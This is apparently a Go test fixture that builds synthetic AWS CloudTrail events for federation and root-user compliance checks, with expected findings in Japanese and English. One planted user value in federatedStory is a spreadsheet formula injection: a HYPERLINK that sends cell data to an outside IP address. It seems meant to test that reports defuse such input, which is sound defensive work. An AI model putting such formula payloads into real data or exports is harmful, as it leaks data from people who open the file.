package demo

import (
	"fmt"
	"time"
)

// signIn is a sign-in to the console. CloudTrail records it as its own type of
// event; what the caller said is in additionalEventData.
func signIn(name, at string, where place, by actor, result, mfa string, expects ...expectation) planted {
	p := plant(name, at, where, by, call{service: "signin", name: "ConsoleLogin"}, expects...)
	p.event.EventVersion, p.event.EventType, p.event.RequestID = "1.08", "AwsConsoleSignIn", ""
	p.event.ResponseElements = fields{"ConsoleLogin": result}
	p.event.AdditionalEventData = fields{"LoginTo": "https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true", "MobileVersion": "No", "MFAUsed": mfa}
	p.event.TLSDetails.Host = where.region + ".signin.aws.amazon.com"
	p.event.UserIdentity.AccessKeyID = "" // there is no session yet
	if by.kind == "AssumedRole" {
		p.event.UserIdentity.AccessKeyID = awsID("ASIA", where.account, by.role, by.session, at)
	}
	if result == "Failure" {
		p.event.ErrorMessage = "Failed authentication"
	}
	return p
}

// federatedStory is for ACC-08: people come by federation, with five exceptions,
// and a machine's user that the organisation has exempted.
func federatedStory() []planted {
	admin := person("sre-01", "Administrator")
	formula := iamUser("dev-07").with(`=HYPERLINK("http://203.0.113.99/?"&A1,"開く")`)
	profile := func(name, user string, reset bool) call {
		return call{service: "iam", name: name, request: fields{"userName": user, "passwordResetRequired": reset}}
	}
	created := profile("CreateLoginProfile", "contractor-03", true)
	created.response = fields{"loginProfile": fields{"userName": "contractor-03", "createDate": "Oct 21, 2026, 1:15:20 AM", "passwordResetRequired": true}}
	own := profile("UpdateLoginProfile", "dev-07", false)
	all := []planted{
		signIn("federation: user signs in", "2026-10-09 21:05:12", productionWorld, iamUser("ops-04").with(browser), "Success", "Yes",
			exception("ACC-08",
				"IAM ユーザー ops-04 がフェデレーションを経ずにコンソールへサインインした。",
				"The IAM user ops-04 signed in to the console without federation.",
				"console_sign_in")),
		signIn("federation: user fails to sign in", "2026-10-09 21:04:31", productionWorld, iamUser("ops-04").with(browser), "Failure", "No", passes("ACC-08")),
		plant("federation: user calls, first", "2026-10-16 19:44:02", production, formula,
			call{service: "s3", name: "ListBuckets", request: fields{"Host": "s3.ap-northeast-1.amazonaws.com"}, readOnly: true},
			exception("ACC-08",
				"個人の IAM ユーザー dev-07 が長期アクセスキーで API を使用した(1件目)。",
				"The personal IAM user dev-07 used the API with a long-lived key (first call).",
				"api_use")),
		plant("federation: user calls, second", "2026-10-16 19:45:48", production, formula,
			call{service: "ec2", name: "DescribeInstances", request: fields{"instancesSet": fields{}, "filterSet": fields{}}, readOnly: true},
			exception("ACC-08",
				"個人の IAM ユーザー dev-07 が長期アクセスキーで API を使用した(2件目)。",
				"The personal IAM user dev-07 used the API with a long-lived key (second call).",
				"api_use")),
		plant("federation: password made", "2026-10-21 10:15:20", productionWorld, admin, created,
			exception("ACC-08",
				"IAM ユーザー contractor-03 にコンソール用パスワードが設定された。",
				"A console password was set for the IAM user contractor-03.",
				"password_set")),
		plant("federation: own password", "2026-10-16 19:47:30", productionWorld, formula, own,
			exception("ACC-08",
				"IAM ユーザー dev-07 が API を使用し、自分のコンソール用パスワードを設定した。",
				"The IAM user dev-07 used the API to set its own console password.",
				"api_use", "password_set")),
		plant("federation: password refused", "2026-10-21 10:14:58", productionWorld, admin, profile("CreateLoginProfile", "contractor-03", true), passes("ACC-08")).
			failed("PasswordPolicyViolation", "Password should have at least one symbol"),
	}
	return append(all, federatedSignIns()...)
}

// federatedSignIns are those of ordinary mornings: in no population.
func federatedSignIns() []planted {
	var all []planted
	first := inJapan("2026-10-01 09:02:00")
	for day := range 31 {
		morning := first.AddDate(0, 0, day)
		if !workingDay(morning) {
			continue
		}
		for i, who := range []actor{person("sre-01", "Operator"), person("sre-02", "Operator"), person("bizops-01", "ReadOnly"), person("dba-01", "Database")} {
			at := morning.Add(time.Duration(i*7+day%5) * time.Minute)
			all = append(all, signIn(fmt.Sprintf("federation: %s, day %d", who.session, day+1), at.Format(time.DateTime), production, who, "Success", "No"))
		}
	}
	return all
}

// rootStory is for ACC-10: the root users sign in, one of them without a second
// factor, and look around. A failed sign-in is not use, and neither is what AWS
// itself does in root's name.
func rootStory() []planted {
	report := plant("root: service event", "2026-10-11 04:30:00", productionWorld, root(), call{service: "iam", name: "CredentialReportGenerated"}, notApplicable("ACC-10"))
	report.event.EventType, report.event.ServiceEventDetails = "AwsServiceEvent", fields{"CredentialReport": "Complete"}
	report.event.SourceIPAddress, report.event.UserAgent, report.event.TLSDetails = "AWS Internal", "AWS Internal", nil
	renewal := plant("root: invoked", "2026-10-18 05:10:00", auditWorld, root(), call{service: "sts", name: "AssumeRole", readOnly: true}, notApplicable("ACC-10"))
	renewal.event.UserIdentity.InvokedBy = "support.amazonaws.com"
	renewal.event.SourceIPAddress, renewal.event.UserAgent, renewal.event.TLSDetails = "support.amazonaws.com", "support.amazonaws.com", nil
	return []planted{
		signIn("root: fails to sign in", "2026-10-24 10:01:50", productionWorld, root(), "Failure", "No", passes("ACC-10")),
		signIn("root: signs in", "2026-10-24 10:02:19", productionWorld, root(), "Success", "Yes",
			exception("ACC-10",
				"本番アカウントのルートユーザーがコンソールへサインインした。",
				"The root user of the production account signed in to the console.",
				"root_used")),
		plant("root: looks", "2026-10-24 10:03:40", productionWorld, root(),
			call{service: "iam", name: "GetAccountSummary", readOnly: true},
			exception("ACC-10",
				"本番アカウントのルートユーザーがアカウントの概要を参照した。",
				"The root user of the production account read the account's summary.",
				"root_used")),
		signIn("root: signs in without MFA", "2026-10-30 08:15:44", auditWorld, root(), "Success", "No",
			exception("ACC-10",
				"監査アカウントのルートユーザーが多要素認証なしでサインインした。",
				"The root user of the audit account signed in without multi-factor authentication.",
				"root_used", "root_without_mfa")),
		report, renewal,
	}
}
